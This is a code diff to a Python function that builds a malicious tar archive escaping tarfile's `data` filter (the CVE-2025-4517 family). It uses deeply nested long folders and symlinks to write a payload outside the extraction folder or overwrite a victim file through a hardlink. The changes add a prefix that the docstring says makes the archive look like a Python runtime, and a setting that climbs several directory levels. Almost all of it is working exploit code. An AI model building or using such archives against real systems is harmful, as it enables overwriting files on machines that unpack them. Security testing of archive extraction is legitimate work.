@@ -69,37 +69,45 @@ def tar_symlink_chain(path: Path, *, links: int = 3) -> Path:
     return path
 
 
-def filter_bypass_tar(path: Path, *, via: str = "file", victim: str = "victim.txt") -> Path:
+def filter_bypass_tar(
+    path: Path, *, via: str = "file", victim: str = "victim.txt", prefix: str = "", climb: int = 1
+) -> Path:
     """The 2025 construction that slips past tarfile's `data` filter (CVE-2025-4517 family).
 
-    Sixteen nested 247-character folders, each reachable through a one-letter
-    symlink, put the real path past PATH_MAX while the names stay short. There
-    `os.path.realpath` can no longer lstat, so it takes the symlink `LLL…` (to
-    `../` x 16) for a folder, and `escape -> a/b/…/p/LLL…/..` looks inside to
-    the filter while the kernel resolves it to the destination's parent.
+    Sixteen nested 240-character folders, each reachable through a one-letter
+    symlink, put the real path near PATH_MAX while the names stay short. Past
+    it `os.path.realpath` can no longer lstat, so it takes the symlink `LLL…`
+    (to `../` x 16, the folder `prefix`) for a folder, and
+    `escape -> a/b/…/p/LLL…/..` looks inside to the filter while the kernel
+    resolves it `climb` levels above `<destination>/<prefix>`.
 
     `via="file"` then writes `escape/escaped.txt`; `via="hardlink"` links
-    `escape/<victim>` (an existing file beside the destination) into the tree
-    and writes through the link, overwriting the victim.
-    Unpack it into a folder whose path is shorter than about 120 characters.
+    `escape/<victim>` (an existing file up there) into the tree and writes
+    through the link, overwriting the victim. Every name starts with `prefix`
+    (`"python/"` makes it look like a runtime). Works while the destination's
+    path is shorter than about 230 characters.
     """
     steps = "abcdefghijklmnop"
-    component = "d" * 247
+    component = "d" * 240
     long_link = "l" * 254
+    up = "/".join([".."] * climb)
     with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
-        real = ""
+        real = prefix
         for letter in steps:
             _tar_add(tar, f"{real}{component}", tarfile.DIRTYPE)
             _tar_add(tar, f"{real}{letter}", tarfile.SYMTYPE, link=component)
             real = f"{real}{component}/"
-        short = "/".join(steps)
+        short = prefix + "/".join(steps)
         _tar_add(tar, f"{short}/{long_link}", tarfile.SYMTYPE, link="../" * len(steps))
-        _tar_add(tar, "escape", tarfile.SYMTYPE, link=f"{short}/{long_link}/..")
+        _tar_add(
+            tar, f"{prefix}escape", tarfile.SYMTYPE, link=f"{'/'.join(steps)}/{long_link}/{up}"
+        )
         if via == "hardlink":
-            _tar_add(tar, "through", tarfile.LNKTYPE, link=f"escape/{victim}")
-            _tar_add(tar, "through", tarfile.REGTYPE, data=PAYLOAD)
+            through = f"{prefix}through"
+            _tar_add(tar, through, tarfile.LNKTYPE, link=f"{prefix}escape/{victim}")
+            _tar_add(tar, through, tarfile.REGTYPE, data=PAYLOAD)
         else:
-            _tar_add(tar, f"escape/{ESCAPED}", tarfile.REGTYPE, data=PAYLOAD)
+            _tar_add(tar, f"{prefix}escape/{ESCAPED}", tarfile.REGTYPE, data=PAYLOAD)
     return path
 
 
